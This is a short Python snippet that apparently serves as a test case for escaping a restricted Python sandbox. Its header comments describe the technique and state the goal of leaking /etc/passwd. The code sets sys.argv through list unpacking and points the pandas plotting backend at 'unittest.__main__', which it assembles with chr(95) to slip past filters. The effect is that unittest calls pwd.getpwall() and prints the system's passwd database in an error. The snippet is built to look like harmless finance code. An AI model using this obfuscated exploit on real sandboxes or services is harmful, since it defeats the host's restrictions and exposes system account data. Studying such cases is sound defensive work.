# source: pandas plotting backend import (pandas/plotting/_core.py _load_backend) + CPython Lib/unittest/__main__.py (runs main() on import, reads sys.argv) + unittest loader calling a named zero-argument callable
# family: sys.argv replaced by a list-unpacking target; plotting backend set by a tuple target; a stdlib module that runs on import by name
# goal: unittest imports pwd and calls pwd.getpwall(): the passwd database (/etc/passwd) is printed in the error
import sys
import pandas as pd

[sys.argv] = [["strategy", "pwd.getpwall"]]
u = chr(95) * 2
pd.options.plotting.backend, n_days = "unittest." + u + "main" + u, 252
